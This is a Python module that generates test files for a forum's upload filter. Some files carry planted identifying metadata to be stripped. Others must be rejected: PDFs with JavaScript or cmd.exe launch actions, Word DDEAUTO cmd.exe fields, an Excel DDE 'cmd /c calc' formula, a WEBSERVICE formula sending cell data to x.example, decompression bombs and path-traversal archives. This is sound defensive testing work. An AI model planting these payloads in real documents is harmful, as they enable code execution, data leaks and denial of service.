"""
Files of every kind, made by code: those that pass the gate, and those that must not.

The first carry what gives people away (places, devices, authors), so that tests can look whether
it is gone. Nothing here came out of anybody's camera or office.
"""

from __future__ import annotations

import struct
import zipfile
import zlib
from io import BytesIO
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, String
from PIL import Image

from forum.uploads.verdict import Why

GIVEAWAY = "Vesna-Giveaway"  # wherever a name can hide
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"

# --- Pictures -----------------------------------------------------------------------------------


def exif(orientation: int = 1) -> Image.Exif:
    """What a telephone writes into a photograph taken at 46.20440 N, 6.14320 E."""
    told = Image.Exif()
    told[0x010F], told[0x0110], told[0x013B] = "Acme", f"Phone of {GIVEAWAY}", GIVEAWAY
    told[0x0112] = orientation
    told[0x9003] = "2026:03:02 11:22:33"
    place = told.get_ifd(0x8825)
    place.update({1: "N", 2: (46.0, 12.0, 15.84), 3: "E", 4: (6.0, 8.0, 35.52)})
    return told


def picture(size: tuple[int, int] = (64, 48), mode: str = "RGB") -> Image.Image:
    made = Image.linear_gradient("L").resize(size)
    return made.convert(mode)


def jpeg(image: Image.Image | None = None, **more: Any) -> bytes:
    made = BytesIO()
    (image or picture()).save(made, "JPEG", **more)
    return made.getvalue()


def photograph(orientation: int = 1, size: tuple[int, int] = (64, 48)) -> bytes:
    xmp = f"<x:xmpmeta xmlns:x='adobe:ns:meta/'>{GIVEAWAY}</x:xmpmeta>".encode()
    told = {"exif": exif(orientation), "xmp": xmp, "comment": GIVEAWAY.encode()}
    return jpeg(picture(size), **told)


def with_second_picture() -> bytes:
    """A photograph as telephones take it: a second one lies behind, and the first announces it."""
    plain = jpeg()
    multi = b"MPF\0MM\0*\0\0\0\x08\0\0"
    segment = b"\xff\xe2" + (len(multi) + 2).to_bytes(2, "big") + multi
    return plain[:2] + segment + plain[2:] + jpeg()


def png(image: Image.Image | None = None, **more: Any) -> bytes:
    made = BytesIO()
    (image or picture()).save(made, "PNG", **more)
    return made.getvalue()


def screenshot() -> bytes:
    from_pillow = png(exif=exif())
    note = _chunk(b"tEXt", b"Author\0" + GIVEAWAY.encode())
    return from_pillow[:33] + note + from_pillow[33:]


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def huge_png() -> bytes:
    """A picture that says it is 60,000 by 60,000 points."""
    header = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    return _png_of(header, b"")


def lying_png() -> bytes:
    """A picture of four points that inflates to 50 MB."""
    header = struct.pack(">IIBBBBB", 2, 2, 8, 2, 0, 0, 0)
    return _png_of(header, zlib.compress(b"\0" * 50_000_000, 9))


def _png_of(header: bytes, points: bytes) -> bytes:
    chunks = ((b"IHDR", header), (b"IDAT", points), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(_chunk(kind, body) for kind, body in chunks)


# --- PDF ----------------------------------------------------------------------------------------

TEXT_OF_A_PAGE = b"BT /F1 12 Tf 72 700 Td (Serial numbers 4711 and 4712) Tj ET"


def _document() -> Pdf:
    made = Pdf.new()
    font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    for _ in range(2):
        page = made.add_blank_page(page_size=(595, 842))
        page.Contents = made.make_stream(TEXT_OF_A_PAGE)
        page.Resources = Dictionary(Font=Dictionary(F1=made.make_indirect(font)))
    made.docinfo["/Author"] = GIVEAWAY
    made.docinfo["/Producer"] = "Writer"
    return made


def _saved(made: Pdf, *, packed: bool = False, **more: Any) -> bytes:
    written = BytesIO()
    mode = pikepdf.ObjectStreamMode.generate if packed else pikepdf.ObjectStreamMode.disable
    made.save(written, object_stream_mode=mode, static_id=True, **more)
    return written.getvalue()


def pdf(*, packed: bool = False) -> bytes:
    return _saved(_document(), packed=packed)


def told_pdf(*, packed: bool = False) -> bytes:
    """A PDF with a remark, a link, a photograph, properties, and a page at which it opens."""
    made = _document()
    photo = made.make_stream(
        photograph(),
        Type=Name.XObject,
        Subtype=Name.Image,
        Width=64,
        Height=48,
        ColorSpace=Name.DeviceRGB,
        BitsPerComponent=8,
        Filter=Name.DCTDecode,
    )
    made.pages[0].Resources.XObject = Dictionary(Im1=photo)
    where = Array([0, 0, 100, 100])
    link = Dictionary(S=Name.URI, URI=String("https://treaty.example/"))
    made.pages[0].Annots = Array(
        [
            made.make_indirect(
                Dictionary(
                    Type=Name.Annot,
                    Subtype=Name.Text,
                    Rect=where,
                    T=String(GIVEAWAY),
                    Contents="See.",
                )
            ),
            Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=where, A=link),
        ]
    )
    made.Root.OpenAction = Array([made.pages[0].obj, Name.Fit])
    made.Root.PageLabels = Dictionary(Nums=Array([0, Dictionary(S=Name.D)]))
    made.Root.Metadata = made.make_stream(
        f"<x:xmpmeta xmlns:x='adobe:ns:meta/'>{GIVEAWAY}</x:xmpmeta>".encode(),
        Type=Name.Metadata,
        Subtype=Name.XML,
    )
    return _saved(made, packed=packed)


def _acting(change: Any, *, packed: bool) -> bytes:
    made = _document()
    change(made)
    return _saved(made, packed=packed)


def _script() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def _opens(**action: Any) -> Any:
    def change(made: Pdf) -> None:
        made.Root.OpenAction = made.make_indirect(Dictionary(**action))

    return change


def _names_scripts(made: Pdf) -> None:
    tree = Dictionary(Names=Array([String("a"), made.make_indirect(_script())]))
    made.Root.Names = Dictionary(JavaScript=made.make_indirect(tree))


def _on_a_page(made: Pdf) -> None:
    made.pages[0].AA = Dictionary(O=_script())


def _attaches(made: Pdf) -> None:
    made.attachments["tool.exe"] = b"MZ\x90\x00"


def _form(**more: Any) -> Any:
    def change(made: Pdf) -> None:
        made.Root.AcroForm = Dictionary(Fields=Array([]), **more)

    return change


def _annotation(subtype: Name, **action: Any) -> Any:
    def change(made: Pdf) -> None:
        shown = Dictionary(Type=Name.Annot, Subtype=subtype, Rect=Array([0, 0, 9, 9]))
        if action:
            shown.A = Dictionary(**action)
        made.pages[0].Annots = Array([made.make_indirect(shown)])

    return change


def _elsewhere(made: Pdf) -> None:
    made.pages[0].Contents.stream_dict.F = String("//server/share/a")


ACTING_PDF: dict[str, tuple[Any, Why]] = {
    "a script when it opens": (_opens(S=Name.JavaScript, JS=String("app.alert(1)")), Why.SCRIPT),
    "a program when it opens": (_opens(S=Name.Launch, F=String("cmd.exe")), Why.SCRIPT),
    "a script by its name": (_names_scripts, Why.SCRIPT),
    "a script on a page": (_on_a_page, Why.SCRIPT),
    "a file within": (_attaches, Why.EMBEDDED),
    "an XFA form": (_form(XFA=String("<xdp/>")), Why.SCRIPT),
    "a form that is sent": (
        _annotation(Name.Link, S=Name.SubmitForm, F=String("http://x.example/")),
        Why.SCRIPT,
    ),
    "a film": (_annotation(Name.RichMedia), Why.EMBEDDED),
    "an attached note": (_annotation(Name.FileAttachment), Why.EMBEDDED),
    "a link to a program": (
        _annotation(Name.Link, S=Name.URI, URI=String("file:///c:/a.exe")),
        Why.EXTERNAL,
    ),
    "a script as a link": (
        _annotation(Name.Link, S=Name.URI, URI=String("javascript:a()")),
        Why.EXTERNAL,
    ),
    "another PDF on a server": (
        _annotation(Name.Link, S=Name.GoToR, F=String("//server/a.pdf")),
        Why.SCRIPT,
    ),
    "a page that lies elsewhere": (_elsewhere, Why.EXTERNAL),
}


def acting_pdf(name: str, *, packed: bool = False) -> bytes:
    return _acting(ACTING_PDF[name][0], packed=packed)


def misspelt_script() -> bytes:
    """A script whose name is written in numbers, as PDF allows."""
    return (
        acting_pdf("a script when it opens")
        .replace(b"/JavaScript", b"/J#61vaScri#70t")
        .replace(b"/JS", b"/#4a#53")
    )


def protected_pdf(password: str = "") -> bytes:
    return _saved(_document(), encryption=pikepdf.Encryption(owner="owner", user=password))


def pdf_bomb() -> bytes:
    """A page that inflates to 600 MB."""
    made = _document()
    packer = zlib.compressobj(9)
    much = b"".join(packer.compress(b"\0" * 10_000_000) for _ in range(60)) + packer.flush()
    stream = made.make_stream(b"")
    stream.write(much, filter=Name.FlateDecode)
    made.pages[0].Contents = stream
    return _saved(made)


# --- Word and Excel -----------------------------------------------------------------------------

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
REL = "http://schemas.openxmlformats.org/package/2006/relationships"
CT = "http://schemas.openxmlformats.org/package/2006/content-types"
OFFICE = "application/vnd.openxmlformats-officedocument"
HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'

Parts = dict[str, bytes]


def types(listed: dict[str, str]) -> bytes:
    """Return the list of kinds; a name with a dot and no slash is an ending."""
    lines = [
        f'<Override PartName="/{name}" ContentType="{kind}"/>'
        if "/" in name
        else f'<Default Extension="{name}" ContentType="{kind}"/>'
        for name, kind in listed.items()
    ]
    return f'{HEAD}<Types xmlns="{CT}">{"".join(lines)}</Types>'.encode()


def relations(*lines: tuple[str, str, str] | tuple[str, str, str, str]) -> bytes:
    """Return relations: each an id, the end of its kind, where it leads, and its mode."""
    made = []
    for ident, kind, target, *mode in lines:
        kind = kind if "://" in kind else f"{R}/{kind}"
        outside = f' TargetMode="{mode[0]}"' if mode else ""
        made.append(f'<Relationship Id="{ident}" Type="{kind}" Target="{target}"{outside}/>')
    return f'{HEAD}<Relationships xmlns="{REL}">{"".join(made)}</Relationships>'.encode()


def package(parts: Parts, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    made = BytesIO()
    with zipfile.ZipFile(made, "w", method) as archive:
        for name, part in parts.items():
            # Dated by ZipInfo, not by the clock: the same file each time.
            archive.writestr(zipfile.ZipInfo(name), part, method)
    return made.getvalue()


ENDINGS = {
    "rels": "application/vnd.openxmlformats-package.relationships+xml",
    "xml": "application/xml",
    "jpeg": "image/jpeg",
    "png": "image/png",
    "vml": f"{OFFICE}.vmlDrawing",
}
PROPERTIES = {
    "docProps/core.xml": "application/vnd.openxmlformats-package.core-properties+xml",
    "docProps/app.xml": f"{OFFICE}.extended-properties+xml",
}


def _properties() -> Parts:
    dc = "http://purl.org/dc/elements/1.1/"
    return {
        "docProps/core.xml": f'{HEAD}<p xmlns:dc="{dc}"><dc:creator>{GIVEAWAY}</dc:creator></p>'.encode(),
        "docProps/app.xml": f"{HEAD}<Properties><Company>{GIVEAWAY}</Company></Properties>".encode(),
    }


def _top(main: str) -> bytes:
    core = "http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties"
    return relations(
        ("rId1", "officeDocument", main),
        ("rId2", core, "docProps/core.xml"),
        ("rId3", "extended-properties", "docProps/app.xml"),
    )


def paragraph(inner: str) -> str:
    return f"<w:p><w:r>{inner}</w:r></w:p>"


def text(words: str) -> str:
    return paragraph(f'<w:t xml:space="preserve">{words}</w:t>')


def field(*pieces: str) -> str:
    """Return a field whose instruction is scattered over runs."""
    said = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    body = mark.format("begin") + said + mark.format("separate") + "<w:r><w:t>1</w:t></w:r>"
    return f"<w:p>{body}{mark.format('end')}</w:p>"


def document(body: str) -> bytes:
    return (
        f'{HEAD}<w:document xmlns:w="{W}" xmlns:r="{R}"><w:body>{body}'
        "<w:sectPr/></w:body></w:document>"
    ).encode()


def word_parts(body: str = "") -> Parts:
    main = f"{OFFICE}.wordprocessingml.document.main+xml"
    return {
        "[Content_Types].xml": types({**ENDINGS, "word/document.xml": main, **PROPERTIES}),
        "_rels/.rels": _top("word/document.xml"),
        "word/document.xml": document(body or text("Serial numbers 4711 and 4712")),
        **_properties(),
    }


def docx(body: str = "") -> bytes:
    return package(word_parts(body))


def told_docx() -> bytes:
    """A letter with remarks, tracked changes, a photograph, a link and a table of contents."""
    tracked = (
        f'<w:p w:rsidR="00AB12CD"><w:ins w:id="1" w:author="{GIVEAWAY}" w:date="2026-01-02T03:04:05Z">'
        "<w:r><w:t>added</w:t></w:r></w:ins></w:p>"
    )
    toc = field(" TO", "C \\o &quot;1-3&quot; ") + field(' HYPERLINK  "https://treaty.example/" ')
    parts = word_parts(text("Serial numbers") + tracked + toc)
    word = f"{OFFICE}.wordprocessingml"
    parts["[Content_Types].xml"] = types(
        {
            **ENDINGS,
            "word/document.xml": f"{word}.document.main+xml",
            "word/comments.xml": f"{word}.comments+xml",
            "word/settings.xml": f"{word}.settings+xml",
            "word/people.xml": f"{word}.people+xml",
            "customXml/item1.xml": "application/xml",
            **PROPERTIES,
        }
    )
    parts["word/_rels/document.xml.rels"] = relations(
        ("rId1", "comments", "comments.xml"),
        ("rId2", "settings", "settings.xml"),
        ("rId3", "image", "media/image1.jpeg"),
        ("rId4", "hyperlink", "https://treaty.example/", "External"),
        ("rId5", "http://schemas.microsoft.com/office/2011/relationships/people", "people.xml"),
        ("rId6", "customXml", "../customXml/item1.xml"),
    )
    parts["word/comments.xml"] = (
        f'{HEAD}<w:comments xmlns:w="{W}"><w:comment w:id="0" w:author="{GIVEAWAY}"'
        f' w:date="2026-01-02T03:04:05Z" w:initials="VG">{text("Really?")}</w:comment></w:comments>'
    ).encode()
    parts["word/settings.xml"] = (
        f'{HEAD}<w:settings xmlns:w="{W}"><w:rsids><w:rsidRoot w:val="00AB12CD"/></w:rsids>'
        f'<w:docVars><w:docVar w:name="a" w:val="{GIVEAWAY}"/></w:docVars></w:settings>'
    ).encode()
    parts["word/people.xml"] = (
        f'{HEAD}<w:people xmlns:w="{W}"><w:person w:author="{GIVEAWAY}"/></w:people>'.encode()
    )
    parts["word/media/image1.jpeg"] = photograph()
    parts["customXml/item1.xml"] = f"{HEAD}<a>{GIVEAWAY}</a>".encode()
    return package(parts)


def cells(inner: str, after: str = "") -> bytes:
    return (
        f'{HEAD}<worksheet xmlns="{S}" xmlns:r="{R}"><sheetData><row r="1">{inner}</row></sheetData>'
        f"{after}</worksheet>"
    ).encode()


def sheet_parts(
    inner: str = '<c r="A1"><v>4711</v></c>', names: str = "", after: str = ""
) -> Parts:
    sheet = f"{OFFICE}.spreadsheetml"
    book = (
        f'{HEAD}<workbook xmlns="{S}" xmlns:r="{R}"><sheets><sheet name="Marks" sheetId="1"'
        f' r:id="rId1"/></sheets>{names}</workbook>'
    )
    return {
        "[Content_Types].xml": types(
            {
                **ENDINGS,
                "xl/workbook.xml": f"{sheet}.sheet.main+xml",
                "xl/worksheets/sheet1.xml": f"{sheet}.worksheet+xml",
                **PROPERTIES,
            }
        ),
        "_rels/.rels": _top("xl/workbook.xml"),
        "xl/workbook.xml": book.encode(),
        "xl/_rels/workbook.xml.rels": relations(("rId1", "worksheet", "worksheets/sheet1.xml")),
        "xl/worksheets/sheet1.xml": cells(inner, after),
        **_properties(),
    }


def xlsx(inner: str = '<c r="A1"><v>4711</v></c>', names: str = "") -> bytes:
    return package(sheet_parts(inner, names))


def told_xlsx() -> bytes:
    """A table with a remark, a formula, a printer, a path and a table that has a name."""
    parts = sheet_parts(
        '<c r="A1"><f>SUM(A2:A3)</f><v>3</v></c>',
        after='<pageSetup orientation="portrait" r:id="rId3"/>',
    )
    sheet = f"{OFFICE}.spreadsheetml"
    parts["[Content_Types].xml"] = types(
        {
            **ENDINGS,
            "bin": f"{sheet}.printerSettings",
            "xl/workbook.xml": f"{sheet}.sheet.main+xml",
            "xl/worksheets/sheet1.xml": f"{sheet}.worksheet+xml",
            "xl/comments1.xml": f"{sheet}.comments+xml",
            "xl/tables/table1.xml": f"{sheet}.table+xml",
            **PROPERTIES,
        }
    )
    parts["xl/worksheets/_rels/sheet1.xml.rels"] = relations(
        ("rId1", "comments", "../comments1.xml"),
        ("rId2", "vmlDrawing", "../drawings/vmlDrawing1.vml"),
        ("rId3", "printerSettings", "../printerSettings/printerSettings1.bin"),
        ("rId4", "table", "../tables/table1.xml"),
    )
    parts["xl/printerSettings/printerSettings1.bin"] = GIVEAWAY.encode("utf-16-le")
    parts["xl/comments1.xml"] = (
        f'{HEAD}<comments xmlns="{S}"><authors><author>{GIVEAWAY}</author></authors>'
        '<commentList><comment ref="A1" authorId="0"><text><t>See.</t></text></comment></commentList>'
        "</comments>"
    ).encode()
    parts["xl/drawings/vmlDrawing1.vml"] = (
        b'<xml xmlns:v="urn:schemas-microsoft-com:vml"><v:shape id="s1"/></xml>'
    )
    parts["xl/tables/table1.xml"] = (
        f'{HEAD}<table xmlns="{S}" id="1" name="Marks" displayName="Marks" ref="A1:A2"/>'.encode()
    )
    path = f'<x15ac:absPath xmlns:x15ac="urn:ac" url="C:\\Users\\{GIVEAWAY}\\"/>'
    parts["xl/workbook.xml"] = parts["xl/workbook.xml"].replace(
        b"<sheets>", path.encode() + b"<sheets>"
    )
    return package(parts)


def _word_with(
    changes: dict[str, bytes], listed: dict[str, str] | None = None, body: str = ""
) -> bytes:
    parts = word_parts(body)
    main = f"{OFFICE}.wordprocessingml.document.main+xml"
    parts["[Content_Types].xml"] = types(
        {**ENDINGS, "word/document.xml": main, **PROPERTIES, **(listed or {})}
    )
    return package({**parts, **changes})


def _word_related(*line: str) -> bytes:
    return _word_with({"word/_rels/document.xml.rels": relations(line)})  # type: ignore[arg-type]


def _macro_kind() -> bytes:
    parts = word_parts()
    main = "application/vnd.ms-word.document.macroEnabled.main+xml"
    parts["[Content_Types].xml"] = types({**ENDINGS, "word/document.xml": main, **PROPERTIES})
    return package(parts)


def _template_kind() -> bytes:
    parts = word_parts()
    main = f"{OFFICE}.wordprocessingml.template.main+xml"
    parts["[Content_Types].xml"] = types({**ENDINGS, "word/document.xml": main, **PROPERTIES})
    return package(parts)


def _sheet_with_link() -> bytes:
    parts = sheet_parts()
    parts["xl/externalLinks/externalLink1.xml"] = (
        f'{HEAD}<externalLink xmlns="{S}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    ).encode()
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"</Types>",
        f'<Override PartName="/xl/externalLinks/externalLink1.xml"'
        f' ContentType="{OFFICE}.spreadsheetml.externalLink+xml"/></Types>'.encode(),
    )
    return package(parts)


def acting_office() -> dict[str, tuple[bytes, Why]]:
    """Every Word and Excel file that must not pass, by what is wrong with it."""
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
    nested = (
        field(" ")
        + '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + field("DDE cmd x")
        + "</w:p>"
    )
    return {
        "macros": (
            _word_with(
                {"word/vbaProject.bin": ole}, {"bin": "application/vnd.ms-office.vbaProject"}
            ),
            Why.MACROS,
        ),
        "macros under another name": (_word_with({"word/media/a.png": ole}), Why.PARTS),
        "a kind with macros": (_macro_kind(), Why.MACROS),
        "a template": (_template_kind(), Why.UNKNOWN),
        "a button that runs": (
            _word_with(
                {"word/activeX/activeX1.bin": ole}, {"bin": "application/vnd.ms-office.activeX"}
            ),
            Why.MACROS,
        ),
        "an object": (
            _word_with({"word/embeddings/o.bin": ole}, {"bin": f"{OFFICE}.oleObject"}),
            Why.EMBEDDED,
        ),
        "a table within": (
            _word_with(
                {"word/embeddings/a.xlsx": xlsx()}, {"xlsx": f"{OFFICE}.spreadsheetml.sheet"}
            ),
            Why.EMBEDDED,
        ),
        "a template elsewhere": (
            _word_related("rId9", "attachedTemplate", "https://x.example/a.dotm", "External"),
            Why.EXTERNAL,
        ),
        "a picture elsewhere": (
            _word_related("rId9", "image", "http://x.example/a.png", "External"),
            Why.EXTERNAL,
        ),
        "a picture on a server": (
            _word_related("rId9", "image", "//server/share/a.png"),
            Why.EXTERNAL,
        ),
        "a link to a program": (
            _word_related("rId9", "hyperlink", "file:///c:/a.exe", "External"),
            Why.EXTERNAL,
        ),
        "a page of the web within": (_word_related("rId9", "aFChunk", "a.html"), Why.EMBEDDED),
        "a relation that climbs": (_word_related("rId9", "image", "../../../a.png"), Why.TAMPERED),
        "a DDE field": (docx(field("DDEAUTO c:\\\\cmd.exe")), Why.FIELDS),
        "a DDE field in pieces": (docx(field(" DD", "EAU", "TO cmd")), Why.FIELDS),
        "a DDE field in another": (docx(nested), Why.FIELDS),
        "a simple DDE field": (
            docx('<w:p><w:fldSimple w:instr=" DDE cmd x "/></w:p>'),
            Why.FIELDS,
        ),
        "a field of numbers": (docx(field("QUOTE 68 68 69")), Why.FIELDS),
        "a picture by a field": (docx(field('INCLUDEPICTURE "http://x.example/"')), Why.FIELDS),
        "a field that leads to a program": (
            docx(field('HYPERLINK "file:///c:/a.exe"')),
            Why.FIELDS,
        ),
        "a declaration of entities": (
            _word_with(
                {
                    "word/document.xml": b'<!DOCTYPE a [<!ENTITY b "c">]>'
                    + document(text("&b;")).partition(b"\n")[2]
                }
            ),
            Why.PARTS,
        ),
        "XML in another spelling": (
            _word_with({"word/document.xml": document(text("a")).decode().encode("utf-16")}),
            Why.PARTS,
        ),
        "a prefix that stands for nothing": (
            _word_with({"word/document.xml": document("<x:control/>")}),
            Why.DAMAGED,
        ),
        "a drawing of the web": (
            _word_with({"word/media/a.svg": b"<svg onload='a()'/>"}, {"svg": "image/svg+xml"}),
            Why.PARTS,
        ),
        "a part of no kind": (_word_with({"word/a.exe": b"MZ\x90"}), Why.PARTS),
        "a link to another table": (_sheet_with_link(), Why.EXTERNAL),
        "a formula that fetches": (
            xlsx('<c r="A1"><f>WEBSERVICE("http://x.example/"&amp;A2)</f></c>'),
            Why.FIELDS,
        ),
        "a formula that starts a program": (
            xlsx("<c r=\"A1\"><f>cmd|'/c calc'!A0</f></c>"),
            Why.FIELDS,
        ),
        "a name that runs": (
            xlsx(
                names='<definedNames><definedName name="_xlnm.Auto_Open">A!A1</definedName></definedNames>'
            ),
            Why.MACROS,
        ),
        "a button with a macro": (
            _word_with(
                {"word/document.xml": document('<w:p><w:sp macro="Run"/></w:p>')},
            ),
            Why.MACROS,
        ),
    }


# --- ZIP files that say two things ---------------------------------------------------------------


def _end(plain: bytes) -> int:
    return plain.rindex(b"PK\x05\x06")


def renamed_in_the_directory() -> bytes:
    """The directory calls a part otherwise than the part itself does."""
    plain = docx()
    at = plain.rindex(b"docProps/app.xml")
    return plain[:at] + b"docProps/apq.xml" + plain[at + 16 :]


def renamed_at_the_part() -> bytes:
    plain = docx()
    at = plain.index(b"docProps/app.xml")
    return plain[:at] + b"docProps/apq.xml" + plain[at + 16 :]


def with_something_between() -> bytes:
    """Bytes that no directory speaks of lie between the last part and the directory."""
    plain = docx()
    end = _end(plain)
    begins = int.from_bytes(plain[end + 16 : end + 20], "little")
    moved = (begins + 100).to_bytes(4, "little")
    return plain[:begins] + b"\0" * 100 + plain[begins : end + 16] + moved + plain[end + 20 :]


def with_a_lie_about_size() -> bytes:
    """A part that says it is small, and is not."""
    parts = word_parts()
    plain = package({**parts, "word/big.xml": b"<a>" + b" " * 4_000_000 + b"</a>"})
    for mark, skip in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        name = plain.rindex(b"word/big.xml") if skip == 24 else plain.index(b"word/big.xml")
        head = plain.rindex(mark, 0, name)
        plain = plain[: head + skip] + (100).to_bytes(4, "little") + plain[head + skip + 4 :]
    return plain


def tampered_archives() -> dict[str, tuple[bytes, Why]]:
    plain, main = docx(), word_parts()
    bomb = {**main, "word/big.xml": b"<a>" + b" " * 40_000_000 + b"</a>"}
    return {
        "another name in the directory": (renamed_in_the_directory(), Why.TAMPERED),
        "another name at the part": (renamed_at_the_part(), Why.TAMPERED),
        "something between": (with_something_between(), Why.TAMPERED),
        "a lie about its size": (with_a_lie_about_size(), Why.BOMB),
        "a bomb": (package(bomb), Why.BOMB),
        "too many parts": (
            package({**main, **{f"word/a{n}.xml": b"" for n in range(3001)}}),
            Why.BOMB,
        ),
        "a name that climbs": (package({**main, "../a.xml": b"<a/>"}), Why.TAMPERED),
        "an absolute name": (package({**main, "/a.xml": b"<a/>"}), Why.TAMPERED),
        "a name of a drive": (package({**main, "c:\\a.xml": b"<a/>"}), Why.TAMPERED),
        "a name twice": (package({**main, "WORD/document.xml": b"<a/>"}), Why.TAMPERED),
        "something behind": (plain + b"%PDF-1.7 and more", Why.TRAILING),
        "no Word file at all": (package({"a.txt": b"a"}), Why.UNKNOWN),
    }


# --- All that passes -----------------------------------------------------------------------------


def fit() -> dict[str, bytes]:
    """Return files of every kind that pass the gate."""
    return {
        "plain.pdf": pdf(),
        "packed.pdf": pdf(packed=True),
        "told.pdf": told_pdf(),
        "told packed.pdf": told_pdf(packed=True),
        "plain.docx": docx(),
        "told.docx": told_docx(),
        "plain.xlsx": xlsx(),
        "told.xlsx": told_xlsx(),
        "plain.jpg": jpeg(),
        "photograph.jpg": photograph(),
        "turned.jpg": photograph(orientation=6),
        "progressive.jpg": jpeg(progressive=True),
        "grey.jpg": jpeg(picture(mode="L")),
        "two.jpg": with_second_picture(),
        "plain.png": png(),
        "palette.png": png(picture().quantize(16)),
        "transparent.png": png(picture(mode="RGBA")),
        "screenshot.png": screenshot(),
        "marks.txt": "Serial numbers: 4711, 4712\nSeriennummern, 序列号, أرقام\n".encode(),
    }
